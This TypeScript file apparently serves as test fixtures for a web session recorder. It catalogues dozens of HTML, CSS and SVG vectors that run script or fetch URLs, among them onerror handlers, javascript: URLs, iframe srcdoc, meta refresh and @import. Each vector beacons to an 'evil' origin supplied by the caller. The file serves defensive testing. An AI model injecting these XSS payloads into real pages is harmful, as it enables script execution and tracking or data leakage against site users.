/** One way to make a page run or fetch something, as a recorder would record it. */
export interface Vector {
  readonly name: string;
  readonly tag: string;
  readonly attributes?: Readonly<Record<string, string | boolean>>;
  readonly text?: string;
  readonly isSvg?: boolean;
  readonly children?: readonly Vector[];
}

type Attributes = Vector['attributes'];
const svg = (name: string, tag: string, attributes: Attributes, text?: string): Vector => ({
  name,
  tag: 'svg',
  isSvg: true,
  attributes: { width: '9', height: '9' },
  children: [{ name, tag, isSvg: true, ...(attributes && { attributes }), ...(text && { text }) }],
});

/** All places of a document that can hold a script or URL. `evil` returns the origin that listens for a vector. */
export function vectorsFor(evil: (name: string) => string): readonly Vector[] {
  const at = (name: string) => `${evil(name)}/${name}`;
  const run = (name: string) =>
    `top.pwned=[...(top.pwned??[]),'${name}'];new Image().src='${at(name)}'`;
  const url = (name: string) => `javascript:${run(name)}`;
  const html = (name: string) => `<script>${run(name)}</script><img src=x onerror="${run(name)}">`;
  const vector = (
    name: string,
    tag: string,
    attributes: Attributes = {},
    text?: string,
  ): Vector => ({
    name,
    tag,
    attributes,
    ...(text && { text }),
  });
  const link = (rel: string, more: Record<string, string> = {}) =>
    vector(`link-${rel}`, 'link', { rel, href: at(`link-${rel}`), ...more });
  const speculation = JSON.stringify({
    prefetch: [{ source: 'list', urls: [at('speculation')], eagerness: 'immediate' }],
    prerender: [{ source: 'list', urls: [at('speculation')], eagerness: 'immediate' }],
  });
  return [
    vector('script', 'script', {}, run('script')),
    vector('script-src', 'script', { src: at('script-src') }),
    vector('script-module', 'script', { type: 'module', src: at('script-module') }),
    vector('noscript', 'noscript', {}, html('noscript')),
    vector('template', 'template', {}, html('template')),
    vector('img-src', 'img', { src: at('img-src') }),
    vector('img-onerror', 'img', { src: 'x:', onerror: run('img-onerror') }),
    vector('img-onload', 'img', {
      src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=',
      onload: run('img-onload'),
    }),
    vector('img-srcset', 'img', { srcset: `${at('img-srcset')} 1x` }),
    vector('img-data-url', 'img', { src: 'x:', rr_dataURL: at('img-data-url') }),
    vector('canvas-data-url', 'canvas', { rr_dataURL: at('canvas-data-url') }),
    vector('input-image', 'input', { type: 'image', src: at('input-image') }),
    vector('autofocus', 'input', { autofocus: 'true', onfocus: run('autofocus') }),
    vector('details', 'details', { open: 'true', ontoggle: run('details') }),
    vector('marquee', 'marquee', { onstart: run('marquee') }, 'text'),
    vector('onmouseover', 'div', { onmouseover: run('onmouseover') }, 'text'),
    vector('onanimationstart', 'div', {
      style: 'animation: pwn 1ms',
      onanimationstart: run('onanimationstart'),
    }),
    vector('style-url', 'div', { style: `background:url(${at('style-url')})` }, 'text'),
    vector('style-text', 'style', {}, `body{background:url(${at('style-text')})}`),
    vector('style-import', 'style', {}, `@import url(${at('style-import')});`),
    vector('style-css-text', 'style', {
      _cssText: `@import '${at('style-css-text')}';p{background:url(${at('style-css-text')})}`,
    }),
    vector(
      'style-font',
      'style',
      {},
      `@font-face{font-family:pwn;src:url(${at('style-font')})}*{font-family:pwn}`,
    ),
    vector('style-escaped', 'style', {}, `body{background:u\\72l(${at('style-escaped')})}`),
    link('stylesheet'),
    link('icon'),
    link('preload', { as: 'image' }),
    link('prefetch'),
    link('prerender'),
    link('modulepreload'),
    link('preconnect'),
    link('dns-prefetch'),
    link('manifest'),
    link('compression-dictionary'),
    link('expect', { blocking: 'render' }),
    link('next'),
    vector('link-two-relations', 'link', {
      rel: 'stylesheet Preconnect',
      href: at('link-two-relations'),
    }),
    vector('link-imagesrcset', 'link', {
      rel: 'preload',
      as: 'image',
      imagesrcset: `${at('link-imagesrcset')} 1x`,
    }),
    vector('speculation', 'script', { type: 'speculationrules' }, speculation),
    vector('dns-control', 'meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    vector('dns-anchor', 'a', { href: at('dns-anchor') }, 'text'),
    vector('link-css-text', 'link', {
      rel: 'stylesheet',
      _cssText: `p{background:url(${at('link-css-text')})}`,
    }),
    vector('meta-refresh', 'meta', {
      'http-equiv': 'refresh',
      content: `0;url=${at('meta-refresh')}`,
    }),
    vector('meta-script', 'meta', {
      'http-equiv': 'refresh',
      content: `0;url=${url('meta-script')}`,
    }),
    vector('base', 'base', { href: at('base') }),
    vector('relative', 'img', { src: 'relative.gif' }),
    vector('iframe-src', 'iframe', { src: at('iframe-src') }),
    vector('iframe-script', 'iframe', { src: url('iframe-script') }),
    vector('iframe-srcdoc', 'iframe', { srcdoc: html('iframe-srcdoc') }),
    vector('iframe-sandbox', 'iframe', {
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
      srcdoc: html('iframe-sandbox'),
    }),
    vector('iframe-data', 'iframe', {
      src: `data:text/html,${encodeURIComponent(html('iframe-data'))}`,
    }),
    vector('iframe-case', 'IFRAME', { SRC: at('iframe-case') }),
    vector('iframe-lazy', 'iframe', { loading: 'eager', src: ` ${at('iframe-lazy')}` }),
    vector('iframe-srcdoc-hint', 'iframe', {
      srcdoc: `<link rel=preconnect href="${at('iframe-srcdoc-hint')}">`,
    }),
    vector('iframe-srcdoc-frame', 'iframe', {
      srcdoc: `<iframe src="${at('iframe-srcdoc-frame')}"></iframe>`,
    }),
    vector('frame', 'frame', { src: at('frame') }),
    vector('portal', 'portal', { src: at('portal') }),
    vector('fencedframe', 'fencedframe', { src: at('fencedframe') }),
    vector('applet', 'applet', { codebase: at('applet'), archive: at('applet'), code: 'x' }),
    vector('object', 'object', { data: at('object') }),
    vector('object-html', 'object', { data: at('object-html'), type: 'text/html' }),
    vector('embed-html', 'embed', { src: at('embed-html'), type: 'text/html' }),
    vector('attribution', 'img', { attributionsrc: at('attribution'), src: at('attribution') }),
    vector('object-script', 'object', { data: url('object-script') }),
    vector('embed', 'embed', { src: at('embed') }),
    vector('video', 'video', {
      src: at('video'),
      poster: at('video'),
      autoplay: 'true',
      onerror: run('video'),
    }),
    vector('audio', 'audio', { src: at('audio'), autoplay: 'true', rr_mediaState: 'played' }),
    vector('form', 'form', { action: url('form') }, 'text'),
    vector(
      'a',
      'a',
      { href: url('a'), ping: at('a'), autofocus: 'true', onfocus: run('a') },
      'text',
    ),
    vector('formaction', 'button', { formaction: at('formaction') }, 'text'),
    vector('poster', 'video', { poster: at('poster') }),
    vector('image-set', 'div', { style: `content:image-set('${at('image-set')}' 1x)` }, 'text'),
    vector('style-cursor', 'div', {
      style: `cursor:url(${at('style-cursor')}),auto;mask:url(${at('style-cursor')}#m)`,
    }),
    vector('style-filter', 'div', {
      style: `filter:url(${at('style-filter')}#f);clip-path:url(${at('style-filter')}#c)`,
    }),
    vector('table', 'table', { background: at('table') }),
    svg('svg-script', 'script', {}, run('svg-script')),
    svg('svg-image', 'image', { href: at('svg-image'), width: '9', height: '9' }),
    svg('svg-xlink', 'image', { 'xlink:href': at('svg-xlink'), width: '9', height: '9' }),
    svg('svg-use', 'use', { href: `${at('svg-use')}#x` }),
    svg('svg-animate', 'animate', {
      attributeName: 'href',
      values: url('svg-animate'),
      onbegin: run('svg-animate'),
    }),
    svg('svg-fe-image', 'feImage', { href: at('svg-fe-image') }),
    {
      name: 'svg-onload',
      tag: 'svg',
      isSvg: true,
      attributes: { onload: run('svg-onload') },
    },
    {
      name: 'picture',
      tag: 'picture',
      children: [
        { name: 'picture', tag: 'source', attributes: { srcset: at('picture') } },
        { name: 'picture', tag: 'img', attributes: { src: at('picture') } },
      ],
    },
    {
      name: 'media-track',
      tag: 'video',
      children: [
        { name: 'media-track', tag: 'source', attributes: { src: at('media-track') } },
        {
          name: 'media-track',
          tag: 'track',
          attributes: { src: at('media-track'), default: 'true' },
        },
      ],
    },
    vector('menu', 'body', {
      onload: run('menu'),
      onpageshow: run('menu'),
      background: at('menu'),
    }),
  ];
}

/** Names of all vectors, each of which needs a listener. */
export function vectorNames(): string[] {
  const names: string[] = [];
  vectorsFor((name) => {
    names.push(name);
    return 'http://localhost';
  });
  return names;
}

/** The vector as HTML. */
export const asMarkup = ({ tag, attributes = {}, text = '', children = [] }: Vector): string => {
  const written = Object.entries(attributes).map(
    ([name, value]) =>
      ` ${name}="${String(value).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"`,
  );
  return `<${tag}${written.join('')}>${text}${children.map(asMarkup).join('')}</${tag}>`;
};
